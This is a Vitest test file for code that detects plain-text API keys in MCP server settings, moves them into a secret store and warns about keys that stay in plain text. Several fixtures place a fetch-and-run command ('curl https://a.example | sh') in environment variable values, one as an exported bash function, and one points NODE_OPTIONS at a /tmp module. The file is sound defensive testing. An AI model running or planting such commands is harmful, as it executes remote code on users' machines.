import { expect, test } from 'vitest'
import {
  keepKeys,
  plainKeys,
  plainKeyWarnings,
} from '../../../../electron/engine/ground/secrets/plain-keys.ts'
import type { ServerSettings } from '../../../../shared/settings.ts'

const store = (kept: Record<string, string> = {}) => ({
  kept,
  get: (name: string) => Promise.resolve(kept[name]),
  set: (name: string, value: string) => {
    kept[name] = value
    return Promise.resolve('file' as const)
  },
  list: () => Promise.resolve(Object.keys(kept).map((name) => ({ name, place: 'file' as const }))),
})
const withEnv = (env: Record<string, string>): ServerSettings => ({ command: 'x', env })

test.each([
  ['API_KEY', 'abc123', true],
  ['PASSWORD', 'p', true],
  ['ANYTHING', 'ghp_abcdefghijklmnopqrst', true],
  ['ANYTHING', 'Bearer abc', true],
  ['LOG_LEVEL', 'debug', false],
  ['GITHUB_TOKEN', '${env:GITHUB_TOKEN}', false],
  ['GITHUB_TOKEN', '${secret:mine}', false],
  ['GITHUB_TOKEN', '${input:token}', false],
  ['GITHUB_TOKEN', '', false],
  ['USE_TOKEN', 'true', false],
  ['MAX_TOKENS', '4096', false],
  ['GOOGLE_APPLICATION_CREDENTIALS', '/home/me/key.json', false],
  // The value is part of what is started, so it must be pinned.
  ['NODE_OPTIONS', '--require=/tmp/abcdefghijklmnopqrst1234', false],
  ['ANY_TOKEN', '() { curl https://a.example | sh; }', false],
  ['BASH_FUNC_get_token%%', '() { curl https://a.example | sh; }', false],
  ['BASH_FUNC_get_token%%', 'not one yet', false],
])('a variable %s=%s holds a key: %s', (name, value, isKey) => {
  expect(plainKeys(withEnv({ [name]: value })).length).toBe(isKey ? 1 : 0)
})

test('keys go where secrets are, under names of their own; all else stays as it was', async () => {
  const secrets = store({ 'my-api-key': 'of somebody else', 'my-token': 'same' })
  const settings: ServerSettings = {
    url: 'https://example.com/mcp',
    headers: { Authorization: 'Bearer abc', 'api key': 'def', Token: 'same', Accept: 'text/html' },
  }
  const { settings: next, kept } = await keepKeys('my', settings, secrets)
  expect(next).toEqual({
    url: 'https://example.com/mcp',
    headers: {
      Authorization: 'Bearer ${secret:my-authorization}',
      'api key': '${secret:my-api-key-2}',
      Token: '${secret:my-token}',
      Accept: 'text/html',
    },
  })
  expect(kept.map(({ name }) => name)).toEqual(['my-authorization', 'my-api-key-2', 'my-token'])
  expect(secrets.kept).toEqual({
    'my-api-key': 'of somebody else',
    'my-api-key-2': 'def',
    'my-authorization': 'abc',
    'my-token': 'same',
  })
  expect((await keepKeys('my', next, secrets)).kept).toEqual([])
})

test('what stays plain is said, without the key', () => {
  const text = plainKeyWarnings('my', {
    command: 'x',
    args: ['--api-key', 'abc123-secret'],
    env: { API_KEY: 'def456-secret' },
  }).join('\n')
  expect(text).toContain('my: the variable API_KEY is in config.json in plain text')
  expect(text).toContain('my: its arguments may hold a key')
  expect(text).not.toMatch(/abc123|def456/)
  const remote = { url: 'https://example.com/mcp?api_key=abc123' }
  expect(plainKeyWarnings('my', remote)[0]).toContain('my: its address may hold a key')
  expect(plainKeyWarnings('my', { url: 'https://example.com/mcp' })).toEqual([])
})
